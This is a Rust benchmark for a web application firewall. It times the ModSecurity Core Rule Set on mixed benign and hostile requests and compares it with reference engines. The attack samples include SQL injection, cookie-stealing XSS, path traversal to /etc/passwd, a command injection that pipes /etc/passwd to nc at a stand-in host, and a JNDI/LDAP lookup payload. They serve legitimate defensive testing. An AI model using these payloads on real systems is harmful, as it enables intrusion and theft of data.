//! A rule set on a mix of traffic, beside the reference engines in the same run: load, microseconds a request, growth.
//!
//! `SEKISHO_CRS` names the rule set's folder (`/usr/share/modsecurity-crs/rules` by default); the references are those of
//! `tests/peer`. Run: `cargo bench -p sekisho-waf --bench seclang`.
#![allow(clippy::unwrap_used, clippy::panic)]

#[path = "../tests/peer/mod.rs"]
mod peer;

use peer::{Peer, Sent, compile, judge};
use sekisho_waf::seclang::Scratch;
use std::time::Instant;

const HEADERS: [(&[u8], &[u8]); 6] = [
    (b"Host", b"shop.example.com"),
    (
        b"User-Agent",
        b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    ),
    (b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"),
    (b"Accept-Language", b"en-GB,en;q=0.9"),
    (b"Accept-Encoding", b"gzip, deflate, br"),
    (b"Cookie", b"session=5f2c9e7d1b3a4c6e8f; theme=dark; _ga=GA1.2.1234567890.1700000000"),
];

/// Nine of ten are these: target, body.
const BENIGN: [(&str, &str); 9] = [
    ("/", ""),
    ("/assets/css/main.min.css", ""),
    ("/api/v2/users?page=1&limit=50&sort=created_at&order=desc", ""),
    ("/find?item=rainbow+unicorn&min=10&max=250", ""),
    ("/account/profile", "first_name=John&last_name=Doe&email=john.doe%40mail.example&phone=555-0123&address=123+Main+Street&zip=62701"),
    ("/api/v2/baskets", r#"{"basket":{"owner":"usr_42","currency":"EUR","lines":[{"sku":"horn-silver","count":1}]},"locale":"en-GB"}"#),
    ("/orders", r#"{"items":[{"id":17,"count":2},{"id":4,"count":1}],"gift":true,"note":"please ring twice"}"#),
    ("/images/unicorn-17.jpg?w=640", ""),
    ("/orders?from=2024-01-31&to=2024-02-29&state=open", ""),
];

/// One of ten is one of these.
const ATTACKS: [(&str, &str); 5] = [
    ("/find?item=x%27+or+7%3D7+--+", ""),
    ("/find?item=%3Cscript%3Ealert(document.cookie)%3C/script%3E", ""),
    ("/files?path=..%2f..%2f..%2fetc%2fpasswd", ""),
    ("/tools/ping", "host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd+%7C+nc+e.example+4444"),
    ("/find?q=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D", ""),
];

fn sent(uri: &str, body: &str) -> Sent {
    let mut headers: Vec<(Vec<u8>, Vec<u8>)> = HEADERS.iter().map(|(name, value)| (name.to_vec(), value.to_vec())).collect();
    if !body.is_empty() {
        let kind: &[u8] = if body.starts_with('{') { b"application/json" } else { b"application/x-www-form-urlencoded" };
        headers.push((b"Content-Type".to_vec(), kind.to_vec()));
        headers.push((b"Content-Length".to_vec(), body.len().to_string().into_bytes()));
    }
    let method = if body.is_empty() { "GET" } else { "POST" };
    Sent { method: method.into(), uri: uri.into(), headers, body: body.into() }
}

fn main() {
    let folder = peer::rule_folder();
    let Some((files, paths)) = peer::rules(&folder) else {
        println!("{}: no rule set is there; name one with SEKISHO_CRS", folder.display());
        return;
    };
    let (program, time) = least(5, || compile(&files));
    println!("load: {time:.0} ms, {} rules, {} matchers", program.rule_count(), program.plan().matcher_count());
    let ((), time) = least(1, || program.warm());
    println!("compiling every pattern, done at its first candidate otherwise: {time:.0} ms");

    let target = |index: usize| if index % 10 == 9 { ATTACKS[index / 10 % 5] } else { BENIGN[index % 9] };
    let mix: Vec<Sent> = (0..100).map(target).map(|(uri, body)| sent(uri, body)).collect();
    let mut scratch = Scratch::default();
    let (blocked, best) = least(20, || mix.iter().filter(|sent| judge(&program, sent, &mut scratch)).count());
    let ours = best * 1e3 / mix.len() as f64;
    println!("phases 1 and 2, paranoia level 1, blocking: {ours:.1} us a request ({blocked} of {} blocked)", mix.len());
    let peers = Peer::all();
    for peer in &peers {
        let theirs = peer.run(&mix, 3, &paths).1;
        println!("{} in the same run: {theirs:.1} us a request; ratio {:.1}", peer.name, theirs / ours);
    }
    if peers.is_empty() {
        println!("no reference is here: install libmodsecurity-dev");
    }

    for (what, piece) in
        [("benign text", "please ring twice, thank you. "), ("attack pieces", "' or 1=1 union/**/select <script>../../etc/passwd;cat|")]
    {
        let mut scratch = Scratch::default();
        let mut time = |length: usize| {
            let sent = sent("/orders", &format!("note={}", piece.repeat(length / piece.len())));
            // The system counts processor time by its ticks: one request is too short to be seen.
            least(3, || (0..ROUNDS).filter(|_| judge(&program, &sent, &mut scratch)).count()).1 / f64::from(ROUNDS)
        };
        let (one, two) = (time(32_768), time(65_536));
        println!("{what}: 32 KB {one:.2} ms, 64 KB {two:.2} ms, growth {:.2}", two / one);
    }
}

/// Requests of one measurement of growth.
const ROUNDS: u32 = 50;

/// The result and the least processor time of some runs, in milliseconds.
fn least<T>(runs: usize, mut run: impl FnMut() -> T) -> (T, f64) {
    let mut best = f64::MAX;
    let mut result = None;
    for _ in 0..runs {
        let before = processor_time();
        result = Some(run());
        best = best.min((processor_time() - before) / 1e6);
    }
    (result.unwrap(), best)
}

/// Nanoseconds this thread has run; the wall clock where the system does not say.
fn processor_time() -> f64 {
    static START: std::sync::OnceLock<Instant> = std::sync::OnceLock::new();
    let said = std::fs::read_to_string("/proc/thread-self/schedstat").ok().and_then(|text| text.split(' ').next()?.parse().ok());
    said.unwrap_or_else(|| START.get_or_init(Instant::now).elapsed().as_nanos() as f64)
}
